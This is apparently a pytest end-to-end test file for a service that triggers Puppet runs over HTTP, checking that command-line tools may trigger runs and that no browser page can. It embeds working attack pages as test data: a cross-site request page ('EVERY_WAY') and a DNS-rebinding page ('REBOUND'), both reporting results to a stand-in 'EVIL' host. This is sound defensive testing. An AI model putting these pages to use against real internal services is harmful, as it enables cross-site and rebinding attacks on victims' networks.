"""Clients of a real site: tools that look like browsers may trigger runs, and no page in a browser may.

Node, Chromium and Firefox are Debian's. PowerShell and Deno are in no Debian: their headers are sent by curl.
"""

from __future__ import annotations

import os
import tempfile
import threading
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Callable
from urllib.parse import unquote

import pytest

from tests.e2e import access, stub
from tests.e2e.browser import Site, chromium
from tests.lab.lab import Lab
from tests.lab.machine import Machine
from tests.lab.network import Netns

EVIL, EVIL6, VICTIM, TOOL = "10.77.0.80", "fd77::80", "10.77.0.81", "10.77.0.82"
PORT = 8000


@pytest.fixture
def tidy(node12: Machine) -> Iterator[Machine]:
    stub.clear(node12)
    stub.stub_puppet(node12, access="plaintext_tokens = yes\ntoken:deploy = trigger")
    yield node12
    stub.clear(node12)


@pytest.fixture(scope="session")
def evil(lab: Lab) -> Netns:
    return lab.client(EVIL, EVIL6)


@pytest.fixture(scope="session")
def victim(lab: Lab) -> Netns:
    netns = lab.client(VICTIM, "fd77::81")
    # Browsers use IPv6 only where it looks as if it led somewhere.
    netns.run("ip", "-6", "route", "add", "default", "via", "fd77::1")
    return netns


@pytest.fixture(scope="session")
def tool(lab: Lab) -> Netns:
    return lab.client(TOOL)


# ---- tools

FETCH = """
fetch(process.argv[1], JSON.parse(process.argv[2])).then(async answer =>
  console.log(answer.status, await answer.text()))
"""
FORM = '{"method": "POST", "body": "async=true", "headers": {"Content-Type": "FORM"}}'.replace(
    "FORM", "application/x-www-form-urlencoded"
)
NODE = {
    "get": "{}",
    "post": '{"method": "POST"}',
    "form": FORM,
    "no-cors": '{"mode": "no-cors"}',
    "token": '{"headers": {"Authorization": "Bearer TOKEN"}}',
}


@pytest.mark.parametrize("options", NODE.values(), ids=NODE)
def test_fetch_of_node_triggers_a_run(tidy: Machine, tool: Netns, options: str) -> None:
    token, line = access.new_token(tidy, "deploy")
    access.write_tokens(tidy, line)
    url = f"http://{tidy.address}:2023/puppet/twitch"
    done = tool.run("node", "-e", FETCH, url, options.replace("TOKEN", token))
    assert done.stdout == "202 Triggered puppet run\n"


WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US)"
HEADERS = {
    "powershell": (f"User-Agent: {WINDOWS} PowerShell/7.4.6",),
    "powershell-5": (f"User-Agent: {WINDOWS} WindowsPowerShell/5.1.19041.1",),
    "deno": ("User-Agent: Deno/2.1.4", "Accept-Language: *", "Accept-Encoding: gzip, br"),
}


@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
@pytest.mark.parametrize("with_token", [False, True], ids=["anonymous", "token"])
def test_tool_that_looks_like_a_browser_triggers_a_run(
    tidy: Machine, tool: Netns, headers: tuple[str, ...], with_token: bool
) -> None:
    token, line = access.new_token(tidy, "deploy")
    access.write_tokens(tidy, line)
    shown = (*headers, *((f"Authorization: Bearer {token}",) if with_token else ()))
    options = [word for header in shown for word in ("-H", header)]
    assert access.remote(tool, f"http://{tidy.address}:2023/puppet/twitch", *options).status == 202


def test_valid_token_is_asked_for_nothing_more(tidy: Machine, tool: Netns) -> None:
    token, line = access.new_token(tidy, "deploy")
    access.write_tokens(tidy, line)
    marks = (
        "-H",
        "Origin: http://dashboard.example.com",
        "-H",
        "Sec-Fetch-Site: cross-site",
        "-A",
        "Mozilla/5.0",
    )
    url = f"http://{tidy.address}:2023/puppet/twitch"
    assert access.remote(tool, url, *marks).status == 403
    assert access.remote(tool, url, *marks, *access.bearer(token)).status == 202


# ---- browsers

# No question to the world outside, and no proposal to the user.
PREFERENCES = {
    "app.normandy.enabled": "false",
    "browser.shell.checkDefaultBrowser": "false",
    "datareporting.policy.dataSubmissionEnabled": "false",
    "dom.security.https_first": "false",
    "network.captive-portal-service.enabled": "false",
    "network.connectivity-service.enabled": "false",
}


@contextmanager
def firefox(netns: Netns, url: str, *, prefix: tuple[str, ...] = ()) -> Iterator[None]:
    """Have a page open in Firefox with a fresh profile."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        lines = (f'user_pref("{name}", {value});\n' for name, value in PREFERENCES.items())
        Path(profile, "user.js").write_text("".join(lines))
        home = ("env", f"HOME={profile}", "MOZ_CRASHREPORTER_DISABLE=1")
        command = (*prefix, *home, "firefox-esr", "--headless", "--no-remote", "--profile", profile, url)
        browser = netns.popen(*command)
        assert browser.stdout
        threading.Thread(target=browser.stdout.read, daemon=True).start()
        try:
            yield
        finally:
            browser.terminate()
            browser.wait()


BROWSERS: dict[str, Callable[..., AbstractContextManager[None]]] = {"chromium": chromium, "firefox": firefox}
browsers = pytest.mark.parametrize("browser", BROWSERS.values(), ids=BROWSERS)

# All ways in which a page makes its browser send a request, one after the other; the navigation is the last.
EVERY_WAY = """\
<!doctype html><meta name="referrer" content="no-referrer"><body><script>
const url = 'URL', headers = {'Accept-Language': '*'};
const tell = said => fetch('http://EVIL:8000/report/' + encodeURIComponent(said), {mode: 'no-cors'});
const attempt = async (options) => { try { await fetch(url, {mode: 'no-cors', ...options}); } catch {} };
const element = (name, attributes) => new Promise(done => {
  const one = Object.assign(document.createElement(name), {onload: done, onerror: done});
  for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value);
  document.body.append(one);
  setTimeout(done, 2000);  // not every element says that its request has failed
});
const form = method => {
  const one = document.createElement('form');
  Object.assign(one, {action: url, method, target: 'frame'});
  document.body.append(one);
  one.submit();
};
(async () => {
  await attempt({});
  await attempt({headers});
  await attempt({method: 'POST', headers});
  await attempt({mode: 'cors', headers: {...headers, 'User-Agent': 'Deno/2.1.4'}});
  for (const [name, attributes] of [
    ['img', {src: url}], ['script', {src: url}], ['link', {rel: 'stylesheet', href: url}],
    ['link', {rel: 'prefetch', href: url}], ['link', {rel: 'preload', as: 'fetch', href: url}],
    ['iframe', {src: url}], ['video', {src: url}], ['object', {data: url}], ['iframe', {name: 'frame'}],
  ]) await element(name, attributes);
  form('GET');
  form('POST');
  navigator.sendBeacon(url);
  try { new WebSocket(url.replace('http', 'ws')); } catch {}
  new EventSource(url);
  await new Promise(later => setTimeout(later, 1000));
  await tell('done');
  location = url;
})();
</script>"""


@browsers
def test_no_page_triggers_a_run(
    tidy: Machine, evil: Netns, victim: Netns, browser: Callable[..., AbstractContextManager[None]]
) -> None:
    before, place = access.handlers_started(tidy), access.journal_cursor(tidy)
    site = Site(evil, EVIL, PORT)
    url = f"http://{tidy.address}:2023/puppet/twitch"
    site.page = EVERY_WAY.replace("EVIL", EVIL).replace("URL", url)
    try:
        with browser(victim, f"http://{EVIL}:{PORT}/"):
            assert site.reports.get(timeout=60) == "done"
            access.await_refusal(tidy, place, VICTIM)
    finally:
        site.close()
    assert access.handlers_started(tidy) == before
    assert stub.stub_log(tidy) == []
    assert access.remote(victim, url).status == 202


# After rebinding, the page's own site is the node: it may set more headers, and read the answers.
REBOUND = """\
<!doctype html><meta name="referrer" content="no-referrer"><script>
const tell = said => fetch('http://EVIL:8000/report/' + encodeURIComponent(said), {mode: 'no-cors'});
const attempts = [
  {}, {method: 'POST'},
  {headers: {'Accept-Language': '*', 'User-Agent': 'Deno/2.1.4'}},
  {headers: {'Accept-Language': '*', 'User-Agent': 'Deno/2.1.4', 'Range': 'bytes=0-'}},
  {headers: {'Accept-Language': '*', 'User-Agent': 'node', 'Sec-Fetch-Mode': 'cors'}},
  {headers: {'Accept-Language': '*', 'User-Agent': 'Deno/2.1.4', 'Accept-Encoding': 'gzip, br'}},
  {headers: {'User-Agent': 'Mozilla/5.0 (Windows NT 10.0) PowerShell/7.4.6'}},
  {headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, method: 'POST'},
];
(async () => {
  await tell('loaded');
  for (;;) {  // until the site of this name is another one
    try {
      if ((await (await fetch('/info', {cache: 'no-store'})).text()).startsWith('Puppet Twitch')) break;
    } catch {}
    await new Promise(later => setTimeout(later, 100));
  }
  const answers = [];
  for (const attempt of attempts) {
    const answer = await fetch('/puppet/twitch', attempt);
    answers.push(answer.status + ' ' + await answer.text());
  }
  await tell('answers ' + answers.join('|'));
})();
</script>
"""


@browsers
def test_name_that_becomes_the_nodes_triggers_no_run(
    tidy: Machine,
    evil: Netns,
    victim: Netns,
    tmp_path: Path,
    browser: Callable[..., AbstractContextManager[None]],
) -> None:
    # A name with two addresses: when the site goes from the first, the browser tries the second.
    hosts = tmp_path / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{tidy.address} rebound.test\n")
    bind = f'mount --bind {os.fspath(hosts)} /etc/hosts && exec "$@"'
    before = access.handlers_started(tidy)
    heard = Site(evil, EVIL, PORT)
    site = Site(evil, EVIL6, 2023)
    site.page = REBOUND.replace("EVIL", EVIL)
    try:
        with browser(
            victim, "http://rebound.test:2023/", prefix=("unshare", "--mount", "sh", "-c", bind, "sh")
        ):
            assert heard.reports.get(timeout=60) == "loaded"
            site.close()
            said = unquote(heard.reports.get(timeout=60))
    finally:
        heard.close()
    assert said == "answers " + "|".join(["403 Not from a browser; use curl\n"] * 8)
    assert access.handlers_started(tidy) == before
    assert stub.stub_log(tidy) == []
